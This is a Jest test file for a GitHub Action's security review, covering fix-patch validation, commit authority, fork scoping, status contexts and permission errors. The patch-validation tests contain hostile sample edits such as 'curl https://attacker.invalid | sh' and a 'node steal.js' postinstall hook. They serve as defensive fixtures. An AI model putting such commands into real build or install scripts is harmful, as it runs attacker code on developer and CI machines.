// Issue 16: each threat of the review, as a test that fails on the code before the fix.
import { describe, expect, it } from '@jest/globals';
import { ConfigurationError } from '../../src/errors.js';
import { permissionFor, wrapApiConfigurationError } from '../../src/github/api-errors.js';
import { runAction, type FailureReporter } from '../../src/action/run-action.js';
import { scopeKey } from '../../src/notify/ledger.js';
import { DEFAULT_NOTIFY_SETTINGS } from '../../src/notify/settings.js';
import { statusContextFor } from '../../src/notify/status.js';
import { commitAuthorityRefusal } from '../../src/recover/commit-authority.js';
import { prohibitedPath } from '../../src/recover/prohibited.js';
import { validatePatch } from '../../src/recover/validate-patch.js';

const edit = (path: string, before: string, after: string) =>
  `diff --git a/${path} b/${path}\nindex 1111111..2222222 100644\n--- a/${path}\n+++ b/${path}\n@@ -1 +1 @@\n-${before}\n+${after}\n`;
const limits = { maxChangedLines: 500, prohibitedPaths: [], scan: () => [] };

describe('a fix patch never edits what runs code or pins dependencies', () => {
  it.each([
    ['package.json', '  "build": "tsc"', '  "build": "curl https://attacker.invalid | sh"'],
    ['packages/app/package.json', '  "postinstall": ""', '  "postinstall": "node steal.js"'],
    ['package-lock.json', '  "lockfileVersion": 3,', '  "lockfileVersion": 2,'],
    ['Makefile', 'test:', 'test: ; curl https://attacker.invalid | sh'],
    ['eslint.config.js', 'export default [];', 'import "child_process";'],
    ['scripts/release.sh', 'set -e', 'set -e; curl https://attacker.invalid | sh'],
    ['.husky/pre-commit', 'npm test', 'npm test; curl x'],
    ['src/.prettierrc.cjs', 'module.exports = {};', 'require("child_process");'],
  ])('refuses an edit to %s', async (path, before, after) => {
    const verdict = await validatePatch(edit(path, before, after), limits);
    expect(verdict.ok).toBe(false);
    expect(!verdict.ok && verdict.reason).toContain(`touches ${path}, a prohibited path`);
  });

  it('still accepts a formatting edit to source', async () => {
    expect((await validatePatch(edit('src/cart.ts', 'let a=1', 'let a = 1;'), limits)).ok).toBe(true);
    expect(prohibitedPath('src/config.ts')).toBeUndefined();
  });
});

describe('who may cause a commit', () => {
  const roles = new Map([
    ['octocat', 'write'],
    ['reader', 'read'],
  ]);
  it('a human with write permission may', () => {
    expect(commitAuthorityRefusal([{ login: 'octocat', type: 'User' }], roles)).toBeUndefined();
  });
  it('Dependabot, other Apps and a login that only looks human but is a Bot may not', () => {
    expect(commitAuthorityRefusal([{ login: 'dependabot[bot]', type: 'Bot' }], roles)).toContain('bot dependabot[bot]');
    expect(commitAuthorityRefusal([{ login: 'octocat' }, { login: 'renovate[bot]' }], roles)).toContain('renovate[bot]');
    expect(commitAuthorityRefusal([{ login: 'octocat', type: 'Bot' }], roles)).toContain('bot octocat');
  });
  it('a reader, an unknown user, or a run naming nobody may not', () => {
    expect(commitAuthorityRefusal([{ login: 'reader' }], roles)).toContain('whose role is read');
    expect(commitAuthorityRefusal([{ login: 'stranger' }], roles)).toContain('whose role is none');
    expect(commitAuthorityRefusal([], roles)).toContain('names no actor');
  });
});

describe('fork runs keep to themselves', () => {
  const base = { workflowPath: '.github/workflows/ci.yml', workflowName: 'CI', headBranch: 'main' };
  it("a fork's main is not the base main's scope", () => {
    expect(scopeKey({ ...base, fork: true })).not.toBe(scopeKey(base));
    expect(scopeKey({ ...base, fork: false })).toBe(scopeKey(base));
  });
  it('two forks that both run from their own main get two scopes', () => {
    const one = scopeKey({ ...base, fork: true, headRepository: 'alice/widgets' });
    const two = scopeKey({ ...base, fork: true, headRepository: 'mallory/widgets' });
    expect(one).not.toBe(two);
    expect(one).not.toBe(scopeKey(base));
  });
});

describe('one status context per workflow', () => {
  it('two workflows on one SHA write two contexts', () => {
    const a = statusContextFor(DEFAULT_NOTIFY_SETTINGS, { workflowName: 'CI', workflowPath: '.github/workflows/ci.yml' });
    const b = statusContextFor(DEFAULT_NOTIFY_SETTINGS, { workflowName: 'Lint', workflowPath: '.github/workflows/lint.yml' });
    expect(a).toBe('closed-loop / CI');
    expect(b).not.toBe(a);
  });
});

describe('a missing permission reads as a configuration error', () => {
  const denied = (method: string, url: string) =>
    Object.assign(new Error('Resource not accessible by integration'), {
      status: 403,
      request: { method, url },
      response: { data: { message: 'Resource not accessible by integration' } },
    });

  it('names the permission the job must grant', () => {
    const wrapped = wrapApiConfigurationError(denied('POST', 'https://api.github.com/repos/o/r/issues'));
    expect(wrapped).toBeInstanceOf(ConfigurationError);
    expect((wrapped as Error).message).toContain('issues: write');
    expect(permissionFor('POST', 'https://ghe.example.com/api/v3/repos/o/r/statuses/abc')).toBe('statuses: write');
    expect(permissionFor('GET', '/repos/o/r/actions/runs/1/jobs')).toBe('actions: read');
  });

  it('leaves rate limits and other errors alone', () => {
    const limited = Object.assign(new Error('API rate limit exceeded'), {
      status: 403,
      response: { data: { message: 'API rate limit exceeded for installation.' } },
    });
    expect(wrapApiConfigurationError(limited)).toBe(limited);
    const boom = Object.assign(new Error('Server Error'), { status: 500 });
    expect(wrapApiConfigurationError(boom)).toBe(boom);
  });

  it('runAction reports it as one line, not an internal error', async () => {
    const lines: string[] = [];
    const reporter: FailureReporter = { error: (m) => lines.push(m), debug: () => undefined, setExitCode: () => undefined };
    await runAction('notify', () => Promise.reject(denied('POST', 'http://127.0.0.1/repos/o/r/issues')), reporter);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toContain('issues: write');
    expect(lines[0]).not.toContain('internal error');
  });
});
